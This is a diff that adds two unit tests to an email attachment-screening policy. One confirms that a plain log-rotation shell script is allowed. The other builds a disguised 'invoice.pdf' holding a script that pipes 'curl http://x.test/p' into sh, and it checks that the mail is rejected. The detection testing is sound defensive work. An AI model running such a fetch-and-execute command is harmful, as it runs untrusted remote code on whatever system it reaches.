@@ -970,3 +970,15 @@ def test_attachment_modules_import_only_gateway_api_from_the_gateway() -> None:
     import policies.attachments as public
 
     assert public.__all__ == ["AttachmentsOptions", "AttachmentsPolicy"]
+
+
+def test_a_unix_script_without_extension_is_not_a_disguise() -> None:
+    """Found in the ham corpus: an admin mailing a "#!/bin/sh" script named "rotate"."""
+    script = b"#!/bin/sh\nsavelog -c 7 /var/log/app.log\n"
+    assert names(check(message(("rotate", script, "text/plain")))) == set()
+
+
+def test_a_script_named_as_a_document_is_a_disguise() -> None:
+    script = b"#!/bin/sh\ncurl http://x.test/p | sh\n"
+    result = check(message(("invoice.pdf", script, "application/pdf")))
+    assert names(result) == {"ATTACH_DISGUISED_EXEC"} and result.force is REJECT
